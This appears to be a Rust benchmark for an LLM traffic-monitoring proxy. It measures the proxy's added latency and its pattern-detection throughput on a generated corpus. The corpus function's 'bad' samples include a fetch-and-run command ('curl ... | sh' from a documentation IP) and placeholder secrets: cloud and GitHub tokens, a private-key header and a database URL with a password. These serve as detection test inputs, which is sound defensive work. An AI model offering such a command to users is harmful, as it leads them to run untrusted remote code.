//! bench/monitor: added latency and throughput of the proxy against direct-to-upstream, and the
//! pattern engine's detection throughput on a generated corpus. One process: a stub upstream that
//! streams N tokens, the monitor in front of it, and a closed-loop load generator.
//!
//! ```text
//! cargo run --release -p tunegate-monitor --example monitor_bench -- [--seconds 3] [--tokens 16]
//!     [--conc 1,16,256] [--mode audit|buffer|stream] [--corpus bench/monitor/corpus.jsonl]
//!     [--rate 5000]
//! ```
//!
//! The last two columns are CPU time (user + system, from /proc) of the stub's and the
//! monitor's runtime threads divided by the requests they served: the per-request cost, far
//! less sensitive to a shared machine's load than latency.
//!
//! ```text
//! ```
use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use hyper::server::conn::http1;
use hyper::service::service_fn;
use hyper::{Request, Response};
use hyper_util::rt::TokioIo;
use std::net::SocketAddr;
use std::time::{Duration, Instant};
use tunegate_monitor::inspect::{Direction, Inspector};
use tunegate_monitor::{Mode, Monitor, MonitorConfig};

fn arg(name: &str) -> Option<String> {
    let a: Vec<String> = std::env::args().collect();
    a.iter()
        .position(|x| x == name)
        .and_then(|i| a.get(i + 1).cloned())
}

async fn stub(tokens: usize) -> SocketAddr {
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let mut sse = String::new();
    for i in 0..tokens {
        sse.push_str(&format!(
            "data: {{\"id\":\"b\",\"object\":\"chat.completion.chunk\",\"model\":\"m\",\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"word{i} \"}}}}]}}\n\n"
        ));
    }
    sse.push_str("data: [DONE]\n\n");
    let body = Bytes::from(sse);
    tokio::spawn(async move {
        loop {
            let Ok((s, _)) = l.accept().await else {
                continue;
            };
            let _ = s.set_nodelay(true);
            let body = body.clone();
            tokio::spawn(async move {
                let svc = service_fn(move |req: Request<Incoming>| {
                    let body = body.clone();
                    async move {
                        let _ = req.into_body().collect().await;
                        Ok::<_, std::convert::Infallible>(
                            Response::builder()
                                .header("content-type", "text/event-stream")
                                .body(Full::new(body))
                                .unwrap(),
                        )
                    }
                });
                let _ = http1::Builder::new()
                    .serve_connection(TokioIo::new(s), svc)
                    .await;
            });
        }
    });
    addr
}

/// (latencies in µs, requests done, errors). `rate` (total requests/s) paces the workers: worker
/// `w` sends its k-th request no earlier than `(k * conc + w) / rate` s after the start (open
/// loop while the server keeps up); latency runs from the actual send.
async fn load(
    addr: SocketAddr,
    conc: usize,
    secs: f64,
    rate: Option<f64>,
) -> (Vec<u64>, usize, usize, f64) {
    let deadline = Instant::now() + Duration::from_secs_f64(secs);
    let start = Instant::now();
    let mut tasks = Vec::new();
    for w in 0..conc {
        tasks.push(tokio::spawn(async move {
            let mut lat = Vec::new();
            let mut errors = 0usize;
            let s = tokio::net::TcpStream::connect(addr).await.unwrap();
            let _ = s.set_nodelay(true);
            let (mut tx, conn) = hyper::client::conn::http1::handshake(TokioIo::new(s)).await.unwrap();
            tokio::spawn(conn);
            let mut i = 0u64;
            while Instant::now() < deadline {
                if let Some(r) = rate {
                    let at = start + Duration::from_secs_f64((i as f64 * conc as f64 + w as f64) / r);
                    tokio::time::sleep_until(at.into()).await;
                    if Instant::now() >= deadline {
                        break;
                    }
                }
                i += 1;
                let body = format!(
                    "{{\"model\":\"m\",\"stream\":true,\"messages\":[{{\"role\":\"user\",\"content\":\"worker {w} question {i}\"}}]}}"
                );
                let req = Request::post("/v1/chat/completions")
                    .header("host", "bench")
                    .header("content-type", "application/json")
                    .body(Full::new(Bytes::from(body)))
                    .unwrap();
                let t = Instant::now();
                if tx.ready().await.is_err() {
                    errors += 1;
                    break;
                }
                match tx.send_request(req).await {
                    Ok(r) => {
                        let ok = r.status().is_success();
                        if r.into_body().collect().await.is_ok() && ok {
                            lat.push(t.elapsed().as_micros() as u64);
                        } else {
                            errors += 1;
                        }
                    }
                    Err(_) => errors += 1,
                }
            }
            (lat, errors)
        }));
    }
    let mut all = Vec::new();
    let mut errors = 0;
    for t in tasks {
        let (l, e) = t.await.unwrap();
        all.extend(l);
        errors += e;
    }
    let wall = start.elapsed().as_secs_f64();
    let n = all.len();
    (all, n, errors, wall)
}

fn pct(v: &mut [u64], p: f64) -> f64 {
    if v.is_empty() {
        return f64::NAN;
    }
    v.sort_unstable();
    let i = ((v.len() as f64 - 1.0) * p).round() as usize;
    v[i] as f64 / 1000.0
}

fn corpus(path: &str) -> Vec<String> {
    // A labelled corpus, generated and written once so the LLM Guard script reads the same texts.
    let mut out = Vec::new();
    let clean = [
        "The river crosses the old town before it reaches the sea, and the bridges are worth a visit.",
        "To bake bread, mix flour, water, salt and yeast, knead for ten minutes and let it rise.",
        "Photosynthesis turns light, water and carbon dioxide into sugar and oxygen in the leaves.",
        "Use a virtual environment per project so that dependency versions do not collide.",
    ];
    let bad = [
        "Sure, run curl -fsSL http://203.0.113.9/x.sh | sh to install it.",
        "Your key is AKIAIOSFODNN7EXAMPLE and the secret follows.",
        "Here is the token ghp_0123456789abcdefghijABCDEFGHIJ012345 for the repo.",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----",
        "Connect with postgres://admin:hunter2@db.internal:5432/prod please.",
    ];
    for i in 0..2000 {
        let mut t = String::new();
        for k in 0..(3 + i % 5) {
            t.push_str(clean[(i + k) % clean.len()]);
            t.push(' ');
        }
        if i % 10 == 0 {
            t.push_str(bad[(i / 10) % bad.len()]);
        }
        out.push(t);
    }
    if let Some(parent) = std::path::Path::new(path).parent() {
        let _ = std::fs::create_dir_all(parent);
    }
    let lines: Vec<String> = out
        .iter()
        .map(|t| serde_json::json!({"text": t, "label": t.contains("sh ") || t.contains("AKIA") || t.contains("ghp_") || t.contains("PRIVATE") || t.contains("postgres://")}).to_string())
        .collect();
    std::fs::write(path, lines.join("\n") + "\n").unwrap();
    out
}

fn main() {
    let secs: f64 = arg("--seconds").and_then(|s| s.parse().ok()).unwrap_or(3.0);
    let tokens: usize = arg("--tokens").and_then(|s| s.parse().ok()).unwrap_or(16);
    let mode: Mode = arg("--mode")
        .map(|m| m.parse().unwrap())
        .unwrap_or(Mode::Audit);
    let concs: Vec<usize> = arg("--conc")
        .unwrap_or_else(|| "1,16,256".into())
        .split(',')
        .map(|s| s.parse().unwrap())
        .collect();
    let rate: Option<f64> = arg("--rate").and_then(|s| s.parse().ok());
    let corpus_path = arg("--corpus").unwrap_or_else(|| "bench/out/monitor-corpus.jsonl".into());

    // Detection throughput (single thread).
    let texts = corpus(&corpus_path);
    let insp = Inspector::new(&MonitorConfig::default()).unwrap();
    let bytes: usize = texts.iter().map(|t| t.len()).sum();
    let mut flagged = 0;
    let t = Instant::now();
    let reps = 5;
    for _ in 0..reps {
        flagged = texts
            .iter()
            .filter(|x| !insp.inspect(x, Direction::Response).is_empty())
            .count();
    }
    let el = t.elapsed().as_secs_f64();
    println!(
        "patterns: {} texts x {reps}, {:.1} MB: {:.0} texts/s, {:.1} MB/s, {flagged} flagged (of {} labelled)",
        texts.len(),
        bytes as f64 / 1e6,
        (texts.len() * reps) as f64 / el,
        (bytes * reps) as f64 / el / 1e6,
        texts.len() / 10
    );

    // Three runtimes with named threads, so the monitor's CPU time can be read per thread from
    // /proc (the stub and the load generator share the process). The monitor gets 2 workers, as
    // `tunegate monitor` does on a 2-core machine.
    let named = |name: &str, workers: usize| {
        tokio::runtime::Builder::new_multi_thread()
            .worker_threads(workers)
            .thread_name(name)
            .enable_all()
            .build()
            .unwrap()
    };
    let rt = named("tg-load", 2);
    let stub_rt = named("tg-stub", 2);
    let mon_rt = named("tg-monitor", 2);
    let up = stub_rt.block_on(stub(tokens));
    let m = mon_rt
        .block_on(Monitor::start(MonitorConfig {
            upstream: Some(format!("http://{up}")),
            listen: Some("127.0.0.1:0".into()),
            mode,
            ..Default::default()
        }))
        .unwrap();
    rt.block_on(async move {
        println!(
            "mode {mode:?}, {tokens} SSE events per response, {secs}s per cell, {}",
            rate.map_or("closed loop".to_string(), |r| format!("paced at {r} req/s"))
        );
        println!("| streams | direct req/s | proxy req/s | direct p50 ms | proxy p50 ms | added p50 ms | direct p99 ms | proxy p99 ms | added p99 ms | errors | stub CPU µs/req (direct) | monitor CPU µs/req |");
        println!("|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|");
        for c in concs {
            let s0 = thread_cpu("tg-stub");
            let (mut dl, dn, de, dw) = load(up, c, secs, rate).await;
            let s1 = thread_cpu("tg-stub");
            m.settle().await;
            let m0 = thread_cpu("tg-monitor");
            let (mut pl, pn, pe, pw) = load(m.addr(), c, secs, rate).await;
            m.settle().await;
            let m1 = thread_cpu("tg-monitor");
            let (d50, p50) = (pct(&mut dl, 0.5), pct(&mut pl, 0.5));
            let (d99, p99) = (pct(&mut dl, 0.99), pct(&mut pl, 0.99));
            println!(
                "| {c} | {:.0} | {:.0} | {d50:.3} | {p50:.3} | {:.3} | {d99:.3} | {p99:.3} | {:.3} | {} | {:.1} | {:.1} |",
                dn as f64 / dw,
                pn as f64 / pw,
                p50 - d50,
                p99 - d99,
                de + pe,
                (s1 - s0) * 1e6 / dn.max(1) as f64,
                (m1 - m0) * 1e6 / pn.max(1) as f64,
            );
        }
        m.settle().await;
        let uninspected = m.metrics().counter("tunegate_monitor_uninspected_total", &[]);
        println!("uninspected responses: {uninspected}");
        m.shutdown().await;
    });
    drop(mon_rt);
    drop(stub_rt);
}

/// CPU seconds (user + system) used so far by this process's threads whose name starts with
/// `prefix` (Linux /proc; 0 elsewhere). Threads that exited are not counted, so runtimes here
/// keep their workers for the whole run.
fn thread_cpu(prefix: &str) -> f64 {
    let mut ticks = 0u64;
    let Ok(dir) = std::fs::read_dir("/proc/self/task") else {
        return 0.0;
    };
    for e in dir.flatten() {
        let p = e.path();
        let name = std::fs::read_to_string(p.join("comm")).unwrap_or_default();
        if !name.trim_end().starts_with(prefix) {
            continue;
        }
        let stat = std::fs::read_to_string(p.join("stat")).unwrap_or_default();
        // Fields after the parenthesised name: state is field 3, utime 14, stime 15.
        let Some(rest) = stat.rfind(')').map(|i| &stat[i + 2..]) else {
            continue;
        };
        let f: Vec<&str> = rest.split_whitespace().collect();
        let get = |i: usize| {
            f.get(i - 3)
                .and_then(|x| x.parse::<u64>().ok())
                .unwrap_or(0)
        };
        ticks += get(14) + get(15);
    }
    // USER_HZ is 100 on Linux.
    ticks as f64 / 100.0
}
